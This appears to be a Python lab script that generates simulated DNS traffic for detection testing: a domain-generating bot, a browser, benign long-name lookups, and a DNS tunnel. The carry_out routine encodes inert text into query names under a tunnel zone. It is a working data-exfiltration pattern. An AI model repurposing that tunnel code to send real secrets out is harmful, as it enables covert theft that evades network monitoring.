"""Who asks for names: a bot that tries the names of the day, a browser, a tunnel, and others with long names.

Queries go to the house's name server as real ones do; those of other types than A are written here (RFC 1035, 4.1).
"""

import base64
import hashlib
import random
import struct
from typing import Final

from lab import plan
from lab.cases import cast
from lab.cases.actor import Actor, main

TXT, PTR, A = 16, 12, 1
CHUNK: Final = 60  # bytes of data in a name
SECRET: Final = b"inert text of the lab: reading %03d, porch 18.2 degrees, humidity 61 percent; "
QUESTIONS: Final = 44
HASHES: Final = 24


def question(name: str, kind: int, number: int) -> bytes:
    """A query for one name, recursion desired."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def ask(actor: Actor, name: str, kind: int) -> bytes:
    return actor.datagram(plan.GATEWAY_IP, 53, question(name, kind, actor.random.getrandbits(16)))


def names_of_the_day(actor: Actor) -> int:
    """One made-up name after the other, until one has an address."""
    tried = 0
    for name in cast.made_up_names():
        tried += 1
        if actor.find(name):
            break
        actor.pause(2, 0.5)
    return tried


def browse(actor: Actor) -> int:
    """A browser's start: three names at random to see whether somebody forges answers, then pages and their parts."""
    letters = random.Random(30)
    probes = ["".join(letters.choices("abcdefghijklmnopqrstuvwxyz", k=letters.randint(7, 15))) for _ in range(3)]
    typed = ["nwes.example.com", "shpo-lamps.de", "gardenning-tips.org", "wikpedia.org"]
    stale = [f"{letters.getrandbits(64):016x}.cdn.example.com" for _ in range(6)]
    suffixed = [f"{probe}.lan" for probe in probes]
    for name in [*probes, *suffixed, "news.example", *cast.cdn_names(), *typed, "shop.example", *stale]:
        actor.find(name)
        actor.pause(1, 0.5)
    for host in range(2, 22):  # a scanner of the local network, and a log that shows names for addresses
        ask(actor, f"{host}.{host % 4}.113.203.in-addr.arpa" if host % 2 else f"{host}.10.168.192.in-addr.arpa", PTR)
    return 1


def carry_out(actor: Actor) -> int:
    """Put text, which is inert, into names below one domain; the answers say that it has come."""
    for n in range(QUESTIONS):
        data = (SECRET % n)[:CHUNK]
        mixed = bytes(byte ^ key for byte, key in zip(data, hashlib.sha512(b"%d" % n).digest(), strict=False))
        text = base64.b32encode(mixed).decode().rstrip("=").lower()
        ask(actor, f"{text[:50]}.{text[50:]}.{n:x}.t.{cast.TUNNEL_ZONE}", TXT)
        actor.pause(1, 0.3)
    return QUESTIONS


def long_names(actor: Actor) -> int:
    """Virus scanners ask by hash, one of them unknown to us; a mail program asks lists of spammers; pages load."""
    hashes = [hashlib.md5(b"file %d" % n).hexdigest() for n in range(HASHES)]
    for n, part in enumerate(hashes):
        ask(actor, f"4z9p5tjmcbnblehp4557z1d136.{part[:26]}.avqs.mcafee.com", A)
        ask(actor, f"{part}.hash.example.org", A)
        if n % 4 == 0:
            ask(actor, f"{n}.113.0.203.zen.spamhaus.org", A)
        actor.pause(20, 0.5)
    for name in cast.cdn_names() * 3:
        actor.find(name)
        actor.pause(5, 0.5)
    for n in range(6):
        ask(actor, "example.com", TXT)
        ask(actor, f"s{n % 2 + 1}._domainkey.example.com", TXT)
    return len(hashes)


if __name__ == "__main__":
    main(day=names_of_the_day, browse=browse, carry=carry_out, long=long_names)
